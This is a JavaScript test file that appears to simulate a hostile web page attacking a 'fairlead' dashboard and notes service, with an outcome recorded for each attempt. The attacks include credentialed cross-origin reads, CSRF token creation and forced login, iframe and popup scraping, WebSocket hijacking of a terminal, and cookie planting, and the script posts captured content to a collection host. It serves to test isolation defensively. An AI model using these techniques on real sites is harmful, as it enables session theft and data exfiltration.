// What a hostile page tries as its visitor. Each attempt ends with what it got; "nothing" is good.
const at = WHERE;
new Image().src = `${at.home}/ran`;
const soon = (ms) => new Promise((done) => setTimeout(done, ms));
const ours = /secret-plan|fairlead-page|user's notes|flb?_[0-9a-f]/;
const isLoot = (text) => ours.test(text) && !text.includes("What a hostile page tries");
const home = (what) => fetch(`${at.home}/collect`, { method: "POST", mode: "no-cors", body: String(what) });
const first = (...promises) => Promise.race([...promises, soon(Number(at.limit))]);

async function read(url, options) {
  const answer = await fetch(url, { credentials: "include", ...options });
  const text = await answer.text();
  if (answer.ok && !answer.url.startsWith(at.home + "/")) home(text);
  return answer.ok && isLoot(text) ? `read ${url}` : "nothing";
}

const send = async (url, body, headers = {}) => {
  await fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body, headers });
  return "nothing"; // what it did is seen at the other end
};

function loaded(tag, url, attribute = "src") {
  const element = document.createElement(tag);
  element[attribute] = url;
  const done = new Promise((resolve) => { element.onload = element.onerror = resolve; });
  document.documentElement.append(element);
  return first(done).then(() => element);
}

async function framed(url) {
  const frame = await loaded("iframe", url);
  try {
    const text = frame.contentDocument.documentElement.outerHTML;
    home(text);
    return isLoot(text) ? `framed ${url}` : "nothing";
  } catch { return "nothing"; }
}

async function popped(url) {
  const other = window.open(url);
  if (!other) return "nothing";
  await soon(1500);
  try {
    const text = other.document.documentElement.outerHTML;
    home(text);
    return isLoot(text) ? `popped ${url}` : "nothing";
  } catch { return "nothing"; } finally { try { other.close(); } catch { /* severed */ } }
}

function posted(url, fields) {
  const frame = document.createElement("iframe");
  frame.name = `frame-${Math.random()}`;
  document.documentElement.append(frame);
  const form = document.createElement("form");
  Object.assign(form, { action: url, method: "post", target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement("input");
    Object.assign(field, { type: "hidden", name, value });
    form.append(field);
  }
  document.documentElement.append(form);
  const done = new Promise((resolve) => { frame.onload = resolve; });
  form.submit();
  return first(done).then(() => "nothing");
}

function socket(url, protocols = []) {
  return first(new Promise((resolve) => {
    const opened = new WebSocket(url.replace(/^http/, "ws"), protocols);
    opened.onopen = () => resolve(`opened ${url}`);
    opened.onerror = () => resolve("nothing");
  }));
}

function planted() {
  for (const name of ["fairlead-dashboard", "fairlead-asked", "fairlead-service", "__Host-fairlead-dashboard"]) {
    for (const rest of ["", "; domain=" + at.host, "; path=/dashboard", "; domain=" + at.host + "; path=/dashboard"]) {
      document.cookie = `${name}=planted; max-age=9999${rest}`;
    }
  }
  return /fairlead/.test(document.cookie.replaceAll(/=planted/g, "")) && /[0-9a-f]{16}/.test(document.cookie)
    ? document.cookie : "nothing";
}

const state = "5".repeat(64);
const attempts = {
  "read the dashboard": () => read(`${at.dashboard}/dashboard/runs`),
  "read the same path here": () => read("/dashboard/runs"),
  "ask the API": () => read(`${at.dashboard}/v1/runs`),
  "ask the pages' API": () => read(`${at.dashboard}/dashboard/api/v1/runs`),
  "follow the stream": () => read(`${at.dashboard}/dashboard/stream?topic=any`),
  "make a token": () => send(`${at.dashboard}/dashboard/api/v1/tokens`, "{}"),
  "make a token of the API": () => send(`${at.dashboard}/v1/tokens`, "{}"),
  "log the visitor out": () => send(`${at.dashboard}/dashboard/logout`, ""),
  "frame the dashboard": () => framed(`${at.dashboard}/dashboard/runs`),
  "pop the dashboard up": () => popped(`${at.dashboard}/dashboard/runs`),
  "log the visitor in as somebody else": () => posted(`${at.dashboard}/dashboard/login`, { token: at.token }),
  "enter as somebody else": () => posted(`${at.dashboard}/dashboard/enter`, { code: "1" }),
  "a socket to a terminal": () => socket(`${at.dashboard}/dashboard/api/v1/runs/secret-plan/terminal`),
  "a socket to the stream": () => socket(`${at.dashboard}/dashboard/stream`, ["fairlead.page.x"]),
  "get a code for the notes": () => read(`${at.dashboard}/dashboard/open/notes?state=${state}`),
  "frame the opening of the notes": () => framed(`${at.dashboard}/dashboard/open/notes?state=${state}`),
  "read the notes": () => read(`${at.notes}/`),
  "send to the notes": () => send(`${at.notes}/send`, "x"),
  "frame the notes": () => framed(`${at.notes}/frame`),
  "show the notes as an image": () => loaded("img", `${at.notes}/img`).then(() => "nothing"),
  "run the notes as a script": () => loaded("script", `${at.notes}/script`).then(() => "nothing"),
  "style by the notes": () => loaded("object", `${at.notes}/object`, "data").then(() => "nothing"),
  "post a form to the notes": () => posted(`${at.notes}/form`, { a: "b" }),
  "a socket to the notes": () => socket(`${at.notes}/socket`),
  "a worker over the dashboard": () =>
    navigator.serviceWorker.register("sw.js", { scope: "/" }).then((made) => {
      return made.scope.startsWith(at.dashboard) ? `a worker for ${made.scope}` : "nothing";
    }),
  "read storage of the dashboard": () => {
    localStorage.setItem("mark", "evil");
    return location.origin === at.dashboard ? "storage" : "nothing";
  },
  "plant cookies": () => planted(),
};

window.attacked = (async () => {
  const outcomes = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { outcomes[name] = (await first(Promise.resolve().then(attempt))) ?? "nothing"; } catch { outcomes[name] = "nothing"; }
  }
  await home(JSON.stringify(outcomes)).catch(() => null);
  return outcomes;
})();
